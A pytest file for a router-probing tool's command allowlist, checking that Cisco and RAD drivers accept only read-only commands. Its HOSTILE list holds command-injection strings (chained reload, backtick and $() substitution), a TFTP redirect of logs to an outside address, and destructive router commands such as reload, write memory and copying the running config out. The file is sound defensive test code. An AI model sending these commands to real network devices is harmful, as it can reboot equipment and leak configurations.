"""Only the drivers' read-only commands can reach a router; the registry names its drivers."""

from __future__ import annotations

import pytest
from vigie_prober.allowlist import ALLOWED, PING_DRIVERS, CommandRefused, check
from vigie_prober.drivers import DRIVERS, Driver, UnknownDriver, get_driver
from vigie_prober.drivers.cisco_ios import CiscoIos
from vigie_prober.drivers.rad_etx import RadEtx


def test_every_driver_command_is_allowed_as_written() -> None:
    assert set(ALLOWED) == set(DRIVERS)
    for name, driver in DRIVERS.items():
        assert driver.commands
        for command in driver.commands:
            assert check(name, command) == command


@pytest.mark.parametrize(
    ("driver", "command", "sent"),
    [
        ("cisco_ios", "  show logging", "show logging"),
        ("cisco_ios", "show   logging  ", "show logging"),
        ("cisco_ios", "show\tlogging", "show logging"),
        ("cisco_ios", "terminal  length 0", "terminal length 0"),
        ("rad_etx", " show configure reporting  alarm-log ", "show configure reporting alarm-log"),
        ("rad_etx", "exit", "exit"),
        ("rad_etx", "ping 10.44.7.1", "ping 10.44.7.1"),
        ("cisco_ios", "ping  2001:DB8:0:0::1", "ping 2001:db8::1"),
    ],
)
def test_whitespace_is_collapsed_and_the_canonical_command_returned(
    driver: str, command: str, sent: str
) -> None:
    assert check(driver, command) == sent


HOSTILE = [
    "show logging ; reload",
    "show logging;reload",
    "show logging && reload",
    "show logging & reload",
    "show logging\nreload",
    "show logging\r\nreload",
    "show logging\rreload",
    "show logging\n",
    "show logging\x00",
    "show logging\x1b[A",
    "show logging\x03",
    "show logging | redirect tftp://203.0.113.5/log",
    "show logging | include UPDOWN",
    "show logging > flash:log.txt",
    "show logging `reload`",
    "show logging $(reload)",
    "show loggíng",
    "show logging ?",
    "show logging !",
    "sh log",
    "SHOW LOGGING",
    "show running-config",
    "show logging history",
    "conf t",
    "configure terminal",
    "configure reporting",
    "reload",
    "write memory",
    "copy running-config tftp:",
    "debug all",
    "clear logging",
    "terminal length 0 ; conf t",
    "",
    "   ",
    "ping example.com",
    "ping 10.0.0.1 repeat 100000",
    "ping -c 5 10.0.0.1",
    "ping 999.1.1.1",
    "ping 010.0.0.1",
    "ping fe80::1%eth0",
    "ping",
]


@pytest.mark.parametrize("driver", sorted(ALLOWED))
@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_commands_are_refused(driver: str, command: str) -> None:
    with pytest.raises(CommandRefused) as refused:
        check(driver, command)

    assert refused.value.command == command
    assert refused.value.driver == driver
    assert refused.value.reason


def test_one_vendors_command_is_refused_for_the_other() -> None:
    with pytest.raises(CommandRefused):
        check("cisco_ios", "show configure reporting alarm-log")
    with pytest.raises(CommandRefused):
        check("rad_etx", "show logging")
    with pytest.raises(CommandRefused):
        check("rad_etx", "terminal length 0")


def test_unknown_driver_allows_nothing() -> None:
    with pytest.raises(CommandRefused, match="unknown driver"):
        check("juniper", "show logging")


def test_refusal_message_escapes_control_characters_and_is_bounded() -> None:
    with pytest.raises(CommandRefused) as refused:
        check("cisco_ios", "show logging\nreload" + "x" * 500)

    message = str(refused.value)
    assert "\n" not in message
    assert "\\n" in message
    assert len(message) < 200
    assert refused.value.reason == "control or non-ASCII character"
    assert CommandRefused.retriable is False


def test_ping_is_allowed_only_where_listed() -> None:
    assert PING_DRIVERS.issubset(ALLOWED)


def test_registry_lists_the_drivers_by_name() -> None:
    assert sorted(DRIVERS) == ["cisco_ios", "rad_etx"]
    assert isinstance(get_driver("rad_etx"), RadEtx)
    assert isinstance(get_driver("cisco_ios"), CiscoIos)
    typed: list[Driver] = [RadEtx(), CiscoIos()]  # mypy checks the Protocol is satisfied
    assert [driver.name for driver in typed] == ["rad_etx", "cisco_ios"]


def test_unknown_driver_name_is_a_clear_error() -> None:
    with pytest.raises(UnknownDriver) as unknown:
        get_driver("rad_etx ")

    assert unknown.value.name == "rad_etx "
    assert unknown.value.known == ("cisco_ios", "rad_etx")
    assert str(unknown.value) == "unknown driver 'rad_etx '; known drivers: cisco_ios, rad_etx"
    assert isinstance(unknown.value, LookupError)


def test_registry_is_read_only() -> None:
    with pytest.raises(TypeError):
        DRIVERS["evil"] = RadEtx()  # type: ignore[index]
    with pytest.raises(TypeError):
        ALLOWED["cisco_ios"] = frozenset({"reload"})  # type: ignore[index]
